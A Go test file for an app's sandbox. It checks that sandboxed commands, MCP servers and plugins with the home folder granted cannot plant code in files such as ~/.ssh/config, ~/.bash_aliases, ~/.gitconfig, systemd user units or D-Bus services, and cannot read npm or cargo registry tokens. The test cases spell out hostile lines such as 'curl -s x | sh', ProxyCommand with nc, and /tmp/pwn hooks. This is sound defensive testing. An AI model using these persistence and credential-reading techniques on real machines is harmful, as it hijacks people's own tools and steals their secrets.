package sandbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wrasse-app/wrasse/plugins/sandbox"
)

// homeWith is a home folder holding files (relative path → contents).
func homeWith(t *testing.T, files map[string]string) string {
	t.Helper()
	home := t.TempDir()
	for rel, data := range files {
		p := filepath.Join(home, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return home
}

// Beside shell and session startup files, many files under the home
// folder make the person's own tools run a program they name, outside any
// sandbox, the next time the person uses them: ssh's ProxyCommand (any
// `ssh`/`git push`), ~/.bash_aliases and ~/.bashrc.d (sourced by Debian's,
// Ubuntu's and Fedora's default ~/.bashrc), gpg-agent's pinentry-program
// (the next signed commit), kubectl's exec credential plugin, the AWS
// CLI's credential_process, a desktop entry that shadows a system one
// (the next click on Firefox in the menu), tmux's run-shell, vim's and
// neovim's startup files. With the home folder granted, no sandbox may
// write them (the home folder rule).
func TestGrantedHomeSettingsReadOnly(t *testing.T) {
	requireLandlock(t)
	home := homeWith(t, map[string]string{
		".ssh/config":        "Host work\n  User p\n",
		".bash_aliases":      "alias ll='ls -l'\n",
		".bashrc.d/path.sh":  "PATH=$PATH:~/bin\n",
		".gnupg/pubring.kbx": "",
		".kube/config":       "apiVersion: v1\nkind: Config\n",
		".aws/config":        "[default]\nregion = eu-west-1\n",
		".local/share/applications/mimeinfo.cache": "",
		".tmux.conf":            "set -g mouse on\n",
		".vimrc":                "set number\n",
		".config/nvim/init.lua": "vim.o.number = true\n",
	})
	// The plugin process takes the home folder from $HOME.
	t.Setenv("HOME", home)
	f := newFixture(t)
	policies := map[string]sandbox.Policy{
		"shell command":              sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true}),
		"MCP server":                 sandbox.ForMCP(sandbox.MCPOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Program: "/bin/sh", Temp: f.temp, Network: true}),
		"plugin with files and exec": sandbox.ForPlugin(sandbox.PluginOptions{Roots: []string{home}, Protected: f.protected(), Files: true, Exec: true}),
	}
	in := func(rel string) string { return filepath.Join(home, rel) }
	for who, p := range policies {
		for _, tc := range []struct{ name, line string }{
			{"~/.ssh/config ProxyCommand", "printf 'Host *\\n  ProxyCommand sh -c \"id>/tmp/pwn\"; nc %%h %%p\\n' >> " + in(".ssh/config")},
			{"~/.bash_aliases", "echo 'curl -s x | sh' >> " + in(".bash_aliases")},
			{"~/.bashrc.d", "echo 'curl -s x | sh' > " + in(".bashrc.d/zz.sh")},
			{"gpg-agent's pinentry-program", "echo 'pinentry-program /tmp/pwn' > " + in(".gnupg/gpg-agent.conf")},
			{"kubectl's exec credential plugin", "printf 'users:\\n- user:\\n    exec:\\n      command: /tmp/pwn\\n' >> " + in(".kube/config")},
			{"the AWS CLI's credential_process", "echo 'credential_process = /tmp/pwn' >> " + in(".aws/config")},
			{"a desktop entry shadowing Firefox's", "printf '[Desktop Entry]\\nName=Firefox\\nExec=/tmp/pwn\\n' > " + in(".local/share/applications/firefox.desktop")},
			{"~/.tmux.conf run-shell", "echo 'run-shell /tmp/pwn' >> " + in(".tmux.conf")},
			{"~/.vimrc", "echo 'silent !/tmp/pwn' >> " + in(".vimrc")},
			{"neovim's init.lua", "echo 'os.execute(\"/tmp/pwn\")' >> " + in(".config/nvim/init.lua")},
		} {
			t.Run(who+" "+tc.name, func(t *testing.T) {
				if out, ok := run(t, p, tc.line); ok {
					t.Errorf("a sandboxed %s with the home folder granted wrote %s: succeeded (%s); want it read-only to every sandbox like the login files: the person's own tools run what it names outside any sandbox", who, tc.name, out)
				}
			})
		}
	}
}

// Commands and MCP servers read git's and Go's settings, never write them
// (homeConfig), but a plugin granted the home folder gets no such rule:
// it sets core.fsmonitor or core.hooksPath in ~/.gitconfig (git runs the
// program at the person's next `git status`, in any repository), or
// GOFLAGS=-toolexec in Go's env file (the person's next `go build` runs
// it around every compile).
func TestPluginWithHomeCannotWriteGitAndGoSettings(t *testing.T) {
	requireLandlock(t)
	home := homeWith(t, map[string]string{
		".gitconfig":         "[user]\n\tname = P\n",
		".config/git/ignore": "*.o\n",
		".config/go/env":     "GOPROXY=https://proxy.golang.org\n",
	})
	t.Setenv("HOME", home)
	f := newFixture(t)
	p := sandbox.ForPlugin(sandbox.PluginOptions{Roots: []string{home}, Protected: f.protected(), Files: true, Exec: true})
	in := func(rel string) string { return filepath.Join(home, rel) }
	for _, tc := range []struct{ name, line string }{
		{"~/.gitconfig core.fsmonitor", "printf '[core]\\n\\tfsmonitor = /tmp/pwn\\n' >> " + in(".gitconfig")},
		{"~/.config/git/config core.hooksPath", "printf '[core]\\n\\thooksPath = /tmp/hooks\\n' > " + in(".config/git/config")},
		{"Go's env file GOFLAGS=-toolexec", "echo 'GOFLAGS=-toolexec=/tmp/pwn' >> " + in(".config/go/env")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if out, ok := run(t, p, tc.line); ok {
				t.Errorf("a plugin granted the home folder wrote %s: succeeded (%s); want git's and Go's settings read-only to plugins as they are to commands and MCP servers", tc.name, out)
			}
		})
	}
}

// docs/plugins.md: a shell command "never reads … registry credentials:
// ~/.cargo/credentials.toml, ~/.npmrc …, ~/.gradle/gradle.properties,
// ~/.m2/settings.xml". With the home folder granted (the usual grant),
// nothing carves them out: `cat ~/.npmrc` prints the person's npm token.
func TestCommandWithHomeCannotReadRegistryCredentials(t *testing.T) {
	requireLandlock(t)
	const token = "npm_SECRETTOKENa9"
	home := homeWith(t, map[string]string{
		".npmrc":                    "//registry.npmjs.org/:_authToken=" + token + "\n",
		".cargo/credentials.toml":   "[registry]\ntoken = \"" + token + "\"\n",
		".gradle/gradle.properties": "mavenPassword=" + token + "\n",
		".m2/settings.xml":          "<settings><servers><server><password>" + token + "</password></server></servers></settings>\n",
	})
	f := newFixture(t)
	p := sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true})
	for _, rel := range []string{".npmrc", ".cargo/credentials.toml", ".gradle/gradle.properties", ".m2/settings.xml"} {
		t.Run(rel, func(t *testing.T) {
			if out, _ := run(t, p, "cat "+filepath.Join(home, rel)); strings.Contains(out, token) {
				t.Errorf("a shell command with the home folder granted read ~/%s: %q; want registry credentials out of every command's reach, as docs/plugins.md says", rel, out)
			}
		})
	}
}

// More that the person's session or shell runs on its own, beside the
// shell startup files: systemd --user also loads units from
// ~/.local/share/systemd/user (a drop-in there adds ExecStartPre= to a
// unit the session already starts, pipewire's say), the session bus
// activates services from ~/.local/share/dbus-1/services (the next
// notification starts its Exec=), KDE Plasma sources
// ~/.config/plasma-workspace/env/*.sh at login, bash-completion sources
// ~/.bash_completion in every interactive bash, and oh-my-zsh every
// ~/.oh-my-zsh/custom/*.zsh in every zsh.
func TestGrantedHomeSessionCodeReadOnly(t *testing.T) {
	requireLandlock(t)
	home := homeWith(t, map[string]string{
		".local/share/systemd/user/.keep":      "",
		".local/share/dbus-1/services/.keep":   "",
		".config/plasma-workspace/env/path.sh": "PATH=$PATH:~/bin\n",
		".bash_completion":                     "# the person's\n",
		".oh-my-zsh/custom/example.zsh":        "# the person's\n",
	})
	t.Setenv("HOME", home)
	f := newFixture(t)
	policies := map[string]sandbox.Policy{
		"shell command":              sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true}),
		"MCP server":                 sandbox.ForMCP(sandbox.MCPOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Program: "/bin/sh", Temp: f.temp, Network: true}),
		"plugin with files and exec": sandbox.ForPlugin(sandbox.PluginOptions{Roots: []string{home}, Protected: f.protected(), Files: true, Exec: true}),
	}
	in := func(rel string) string { return filepath.Join(home, rel) }
	for who, p := range policies {
		for _, tc := range []struct{ name, line string }{
			{"a systemd --user drop-in in ~/.local/share", "mkdir -p " + in(".local/share/systemd/user/pipewire.service.d") + " && printf '[Service]\\nExecStartPre=/tmp/pwn\\n' > " + in(".local/share/systemd/user/pipewire.service.d/a9.conf")},
			{"a D-Bus session service", "printf '[D-BUS Service]\\nName=org.freedesktop.Notifications\\nExec=/tmp/pwn\\n' > " + in(".local/share/dbus-1/services/org.freedesktop.Notifications.service")},
			{"a Plasma login env script", "echo /tmp/pwn > " + in(".config/plasma-workspace/env/a9.sh")},
			{"~/.bash_completion", "echo /tmp/pwn >> " + in(".bash_completion")},
			{"an oh-my-zsh custom script", "echo /tmp/pwn > " + in(".oh-my-zsh/custom/a9.zsh")},
		} {
			t.Run(who+" "+tc.name, func(t *testing.T) {
				if out, ok := run(t, p, tc.line); ok {
					t.Errorf("a sandboxed %s with the home folder granted wrote %s: succeeded (%s); want it read-only to every sandbox like the login files: the person's session runs it outside any sandbox", who, tc.name, out)
				}
			})
		}
	}
}
